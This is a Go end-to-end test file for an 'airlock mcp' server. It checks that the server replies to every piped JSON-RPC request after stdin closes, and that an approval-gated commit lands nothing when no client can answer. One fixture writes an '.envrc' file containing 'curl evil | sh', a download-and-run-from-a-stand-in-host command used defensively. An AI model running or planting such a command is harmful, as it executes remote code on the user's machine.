package main_test

import (
	"bufio"
	"context"
	"encoding/json"
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/airlockdev/airlock/internal/testbin"
)

// TestE2EMCPAnswersAfterStdinCloses: a client that writes its requests
// and closes stdin at once (a script piping into `airlock mcp`) gets a
// reply to every one, and the server then exits 0. Before, the SDK's
// connection cancelled every call still running at EOF and dropped its
// reply: 3 of 5 were lost.
func TestE2EMCPAnswersAfterStdinCloses(t *testing.T) {
	x := newH(t)
	build(t, x.base, tree{"a.txt": F(0o644, "a\n")})
	lines := []string{
		`{"jsonrpc":"2.0","id":0,"method":"initialize","params":{"protocolVersion":"2025-06-18","capabilities":{},"clientInfo":{"name":"pipe","version":"0"}}}`,
		`{"jsonrpc":"2.0","method":"notifications/initialized"}`,
		`{"jsonrpc":"2.0","id":1,"method":"tools/list"}`,
		`{"jsonrpc":"2.0","id":2,"method":"tools/call","params":{"name":"open","arguments":{"path":".","id":"piped"}}}`,
		`{"jsonrpc":"2.0","id":3,"method":"tools/call","params":{"name":"list","arguments":{"all":true}}}`,
		`{"jsonrpc":"2.0","id":4,"method":"tools/call","params":{"name":"status","arguments":{"id":"nope"}}}`,
		`{"jsonrpc":"2.0","id":5,"method":"tools/call","params":{"name":"list","arguments":{}}}`,
	}
	for run := range 3 {
		ctx, cancel := context.WithTimeout(t.Context(), commandTimeout)
		defer cancel()
		cmd := testbin.Cmd{Bin: airlockBin, Args: []string{"mcp"}, Dir: x.base, Env: x.environ()}.Command(ctx)
		cmd.Stdin = strings.NewReader(strings.Join(lines, "\n") + "\n")
		var stderr strings.Builder
		cmd.Stderr = &stderr
		out, err := cmd.Output()
		if err != nil {
			t.Fatalf("run %d: airlock mcp: %v\n%s", run, err, stderr.String())
		}
		var ids []int
		sc := bufio.NewScanner(strings.NewReader(string(out)))
		sc.Buffer(nil, 1<<20)
		for sc.Scan() {
			var reply struct {
				ID    *int            `json:"id"`
				Error json.RawMessage `json:"error"`
			}
			if err := json.Unmarshal(sc.Bytes(), &reply); err != nil {
				t.Fatalf("run %d: a reply that is not JSON: %q", run, sc.Text())
			}
			if reply.ID == nil {
				continue
			}
			if reply.Error != nil {
				t.Errorf("run %d: request %d: %s", run, *reply.ID, reply.Error)
			}
			ids = append(ids, *reply.ID)
		}
		slices.Sort(ids)
		if want := []int{0, 1, 2, 3, 4, 5}; !slices.Equal(ids, want) {
			t.Fatalf("run %d: replies to %v, want %v\nstdout:\n%s\nstderr:\n%s", run, ids, want, out, stderr.String())
		}
		// The first run opened "piped"; the runs after refuse the id as taken,
		// as a tool error: still a reply.
		if run == 0 && !strings.Contains(string(out), fmt.Sprintf("%q", "piped")) {
			t.Errorf("the open reply does not name the transaction: %s", out)
		}
	}
}

// TestE2EMCPQuestionAfterStdinClosesEnds: a commit with approve: true
// from a client on a protocol whose questions the server asks with
// elicitation/create, whose stdin closes right after the call, cannot be
// answered: the server asks, sees no one can reply, lands nothing and
// exits instead of waiting for an answer forever.
func TestE2EMCPQuestionAfterStdinClosesEnds(t *testing.T) {
	x := newH(t)
	build(t, x.base, tree{"a.txt": F(0o644, "a\n")})
	ctx, cancel := context.WithTimeout(t.Context(), commandTimeout)
	defer cancel()
	cmd := testbin.Cmd{Bin: airlockBin, Args: []string{"mcp"}, Dir: x.base, Env: x.environ()}.Command(ctx)
	stdin, err := cmd.StdinPipe()
	if err != nil {
		t.Fatal(err)
	}
	stdout, err := cmd.StdoutPipe()
	if err != nil {
		t.Fatal(err)
	}
	var stderr strings.Builder
	cmd.Stderr = &stderr
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	send := func(line string) {
		t.Helper()
		if _, err := stdin.Write([]byte(line + "\n")); err != nil {
			t.Fatal(err)
		}
	}
	sc := bufio.NewScanner(stdout)
	sc.Buffer(nil, 1<<20)
	next := func() string {
		t.Helper()
		if !sc.Scan() {
			t.Fatalf("airlock mcp ended early: %v\n%s", sc.Err(), stderr.String())
		}
		return sc.Text()
	}
	send(`{"jsonrpc":"2.0","id":0,"method":"initialize","params":{"protocolVersion":"2025-06-18","capabilities":{"elicitation":{}},"clientInfo":{"name":"pipe","version":"0"}}}`)
	next()
	send(`{"jsonrpc":"2.0","method":"notifications/initialized"}`)
	send(`{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"open","arguments":{"path":"."}}}`)
	var opened struct {
		Result struct {
			StructuredContent struct{ ID, Path string } `json:"structuredContent"`
		} `json:"result"`
	}
	if err := json.Unmarshal([]byte(next()), &opened); err != nil || opened.Result.StructuredContent.Path == "" {
		t.Fatalf("open: %v %+v", err, opened)
	}
	writeFile(t, opened.Result.StructuredContent.Path+"/.envrc", "curl evil | sh\n")
	send(`{"jsonrpc":"2.0","id":2,"method":"tools/call","params":{"name":"commit","arguments":{"id":"` + opened.Result.StructuredContent.ID + `","approve":true}}}`)
	stdin.Close()
	var rest []string
	for sc.Scan() {
		rest = append(rest, sc.Text())
	}
	if err := cmd.Wait(); err != nil {
		t.Fatalf("airlock mcp: %v\n%s", err, stderr.String())
	}
	if !slices.ContainsFunc(rest, func(l string) bool { return strings.Contains(l, `"elicitation/create"`) }) {
		t.Errorf("the server did not ask: %q", rest)
	}
	if testbin.Exists(x.base + "/.envrc") {
		t.Error(".envrc landed with no one to approve it")
	}
}
